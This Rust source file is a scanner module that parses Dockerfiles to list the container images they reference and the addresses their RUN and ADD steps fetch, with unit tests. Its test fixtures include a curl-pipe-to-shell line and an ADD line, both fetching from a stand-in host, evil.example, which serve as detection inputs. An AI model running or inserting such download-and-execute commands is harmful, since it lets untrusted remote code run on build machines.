//! Build files of images: which images they are built from, and what their steps fetch.
//!
//! ```text
//! Dockerfile, Dockerfile.dev, app.Dockerfile, Containerfile
//!
//! ARG TAG=0.69.4
//! FROM --platform=linux/amd64 aquasec/trivy:${TAG} AS scan       also ONBUILD
//! COPY --from=aquasec/trivy:0.69.4 /usr/local/bin/trivy /bin/    of another stage, or of an image
//! RUN --mount=type=bind,from=image …
//! ```
//!
//! A hit proves that the file names the image; not that anything was built from it. The time of the file is since when it says so, at the
//! earliest. Documented in the Dockerfile reference.

use std::collections::{HashMap, HashSet};

use super::used;
use crate::{
    fact::{Fact, Held},
    interest::Interest,
    surface::{
        Claim, Flaw, Meta, Opened, Shows, Sink, Surface,
        content::{is_build_file, text},
        fetched,
    },
};

/// Far above any file of its kind.
const FILE: usize = 4 << 20;
/// Images of one file.
const MOST: usize = 2000;

/// `Dockerfile` and its kin.
pub struct Dockerfile;

static META: Meta = Meta {
    id: "container/dockerfile",
    title: "images that build files of images name",
    proves: "the file names that image or address; not that anything was built from it",
};

impl Surface for Dockerfile {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn shows(&self) -> &'static [Shows] {
        &[Shows::Images, Shows::Network]
    }

    fn claims(&self, _: &Interest) -> Vec<Claim> {
        Claim::build_files()
    }

    fn recognises(&self, head: &[u8]) -> Option<&'static str> {
        is_build_file(head).then_some("Dockerfile")
    }

    fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
        let at = file.mtime("mtime of the build file");
        let interest = file.interest;
        let text = text(file.all(FILE)?);
        let mut reader = Reader::default();
        let mut left = MOST;
        let mut lines = (1..).zip(text.lines());
        while let Some((number, line)) = lines.next() {
            let mut whole = line.trim().to_owned();
            while whole.ends_with('\\') && whole.len() <= FILE {
                whole.pop();
                let Some((_, more)) = lines.next() else {
                    break;
                };
                if !more.trim_start().starts_with('#') {
                    whole.push_str(more.trim());
                } else {
                    whole.push('\\');
                }
            }
            for fact in reader.step(&whole, interest) {
                left = left.checked_sub(1).ok_or(Flaw::Unsupported("a build file of more than 2000 images"))?;
                out.push_at(None, Some(number), at.clone(), fact);
            }
        }
        Ok(())
    }
}

#[derive(Default)]
struct Reader {
    /// `ARG` before the first `FROM`.
    variables: HashMap<String, String>,
    stages: HashSet<String>,
}

impl Reader {
    fn step(&mut self, line: &str, interest: &Interest) -> Vec<Fact> {
        let (word, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
        let rest = rest.trim();
        match word.to_ascii_uppercase().as_str() {
            "ONBUILD" => self.step(rest, interest),
            "ARG" => {
                for (name, value) in rest.split_whitespace().filter_map(|w| w.split_once('=')) {
                    if self.variables.len() < MOST {
                        self.variables.insert(name.to_owned(), value.trim_matches(['"', '\'']).to_owned());
                    }
                }
                Vec::new()
            }
            "FROM" => {
                let mut words = rest.split_whitespace().filter(|w| !w.starts_with("--"));
                let image = words.next().unwrap_or_default();
                let found = self.image(image);
                if words.next().is_some_and(|w| w.eq_ignore_ascii_case("as"))
                    && let Some(stage) = words.next()
                {
                    self.stages.insert(stage.to_ascii_lowercase());
                }
                found.into_iter().collect()
            }
            "COPY" => rest.split_whitespace().filter_map(|w| self.image(w.strip_prefix("--from=")?)).collect(),
            "RUN" => {
                let mounts = rest.split_whitespace().take_while(|w| w.starts_with("--")).flat_map(|w| w.split(','));
                let images = mounts.filter_map(|part| self.image(part.strip_prefix("from=")?));
                images.chain(fetched::addresses(rest, interest, Some(Held::Named))).collect()
            }
            "ADD" => {
                let words = rest.split_whitespace().filter(|w| w.contains("://"));
                let known = words.filter_map(|w| interest.traces.address(w));
                known.map(|(kind, value)| fetched::fact(kind, value, Held::Named)).collect()
            }
            _ => Vec::new(),
        }
    }

    /// An image by its name; `None` for a stage of the file, its number, and what a variable without a value leaves open.
    fn image(&self, text: &str) -> Option<Fact> {
        let text = self.filled(text.trim_matches(['"', '\'']))?;
        let stage = self.stages.contains(&text.to_ascii_lowercase()) || text.bytes().all(|b| b.is_ascii_digit());
        if stage || text == "scratch" { None } else { used(&text) }
    }

    /// With the values of the variables that it names.
    fn filled(&self, text: &str) -> Option<String> {
        let (mut filled, mut rest) = (String::new(), text);
        while let Some(at) = rest.find('$') {
            filled.push_str(rest.get(..at)?);
            let behind = rest.get(at + 1..)?;
            let (name, after) = match behind.strip_prefix('{') {
                Some(inner) => inner.split_once('}')?,
                None => {
                    let end = behind.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(behind.len());
                    behind.split_at(end)
                }
            };
            let (name, default) =
                name.split_once(":-").or_else(|| name.split_once('-')).map_or((name, None), |(n, d)| (n, Some(d)));
            filled.push_str(self.variables.get(name).map(String::as_str).or(default)?);
            if filled.len() > 1000 {
                return None;
            }
            rest = after;
        }
        filled.push_str(rest);
        Some(filled)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::surface::python::trial::tried;

    fn said(text: &str) -> Vec<String> {
        let interest = Interest::with_traces(&[(crate::fact::TraceKind::Host, "evil.example")]);
        let tried = tried(&Dockerfile, "p/Dockerfile", text.as_bytes(), &interest);
        assert!(tried.flaw.is_none());
        let words = |s: &crate::fact::Seen| {
            let line = s.origin.line.unwrap_or(0);
            match &s.fact {
                Fact::Use(u) => format!(
                    "{}:{}{} {line}",
                    u.name,
                    u.reference,
                    u.digest.as_deref().map_or("", |d| d.get(..10).unwrap_or(d))
                ),
                Fact::Trace(t) => format!("{} {line}", t.value),
                other => format!("{other:?}"),
            }
        };
        tried.seen.iter().map(words).collect()
    }

    #[test]
    fn every_place_of_an_image() {
        let digest = format!("sha256:{}", "a".repeat(64));
        for (text, is) in [
            ("FROM a/b:1", "a/b:1 1".to_owned()),
            ("from --platform=linux/amd64 a/b AS x", "a/b:latest 1".to_owned()),
            ("ARG T=2\nFROM a/b:${T}", "a/b:2 2".to_owned()),
            ("FROM a/b:${T:-3}", "a/b:3 1".to_owned()),
            ("ONBUILD FROM \"reg.example:5000/a/b:1\"", "reg.example:5000/a/b:1 1".to_owned()),
            ("COPY --from=a/b:1 /x /y", "a/b:1 1".to_owned()),
            ("RUN --mount=type=bind,from=a/b:1,target=/x make", "a/b:1 1".to_owned()),
            ("FROM \\\n a/b:1", "a/b:1 1".to_owned()),
            ("RUN curl https://evil.example/x \\\n # why\n | sh", "evil.example 1".to_owned()),
            ("ADD https://evil.example/x /x", "evil.example 1".to_owned()),
        ] {
            assert_eq!(said(text), [is], "{text}");
        }
        assert_eq!(said(&format!("FROM a/b:1@{digest}")), ["a/b:1sha256:aaa 1"]);
    }

    #[test]
    fn what_is_no_image() {
        for text in [
            "# FROM a/b:1",
            "FROM scratch",
            "FROM ${IMAGE}",
            "FROM",
            "COPY --from=0 /x /y",
            "COPY a/b:1 /y",
            "LABEL x=\"FROM a/b:1\"",
            "RUN echo FROM a/b:1",
            "RUN echo curl https://evil.example",
            "FROM $",
            "FROM ${x",
            "FROM \\",
            "",
        ] {
            assert_eq!(said(text), [""; 0], "{text}");
        }
        assert_eq!(said("FROM a/b:1 AS Base\nFROM base\nCOPY --from=BASE /x /y").len(), 1);
    }
}
